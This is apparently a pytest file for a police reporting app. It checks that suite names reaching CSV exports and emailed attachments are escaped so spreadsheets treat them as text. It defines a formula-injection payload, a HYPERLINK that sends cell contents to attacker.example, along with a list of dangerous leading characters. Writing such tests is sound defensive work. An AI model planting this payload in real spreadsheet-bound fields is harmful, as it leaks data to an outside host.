"""The report CSV opens in a spreadsheet as text: a name someone typed never runs as a formula,
whether the CSV is downloaded from the API or arrives attached to the Monday email."""

import csv
import io

import pytest
import time_machine

from core.csv import csv_cell
from reports.models import ReportRecipient
from reports.services import weekly_summary_send
from tests.factories import HearingFactory, SuiteFactory, WitnessFactory, london
from tests.reports.test_hours_saved import attend

pytestmark = pytest.mark.django_db

URL = "/api/v1/reports/hours-saved/"
FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"Click for details")'


@pytest.fixture
def renamed_suite(sussex, court):
    """A suite someone renamed to a formula, where an officer gave evidence on Tue 2 March 2027."""
    suite = SuiteFactory(force=sussex, name=FORMULA)
    hearing = HearingFactory(
        court=court, starts_at=london(2027, 3, 2, 10), ends_at=london(2027, 3, 2, 13)
    )
    attend(
        hearing,
        WitnessFactory(force=sussex),
        suite,
        arrive=london(2027, 3, 2, 9, 50),
        release=london(2027, 3, 2, 10, 50),
    )
    return suite


def cells(content: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(content)) for cell in line]


def test_a_suite_renamed_to_a_formula_reaches_the_downloaded_csv_as_text(api, renamed_suite):
    response = api.get(
        URL, {"from": "2027-03-01", "to": "2027-03-31", "group_by": "suite", "format": "csv"}
    )

    assert response.status_code == 200
    written = cells(response.content.decode())
    # the name is there, as the spreadsheet shows text: a leading apostrophe, never a leading =
    assert "'" + FORMULA in written
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written)


def test_a_suite_renamed_to_a_formula_reaches_the_monday_email_attachment_as_text(
    mailoutbox, sussex, renamed_suite
):
    ReportRecipient.objects.create(force=sussex, email="chief@sussex.police.example")

    with time_machine.travel(london(2027, 3, 8, 7), tick=False):  # the following Monday
        assert weekly_summary_send(force=sussex) == 1

    _name, content, _mimetype = mailoutbox[0].attachments[0]
    written = cells(content)
    assert "'" + FORMULA in written
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written)


@pytest.mark.parametrize("typed", ["=1+1", "+44 7700 900123", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_a_spreadsheet_would_evaluate_is_kept_as_text(typed):
    assert csv_cell(typed) == "'" + typed


@pytest.mark.parametrize("value", [-1.5, -3, 0, 4.5, "Brighton", "", None, "a=b"])
def test_numbers_stay_numbers_and_ordinary_text_is_unchanged(value):
    # negative figures must still add up in a spreadsheet
    assert csv_cell(value) == value
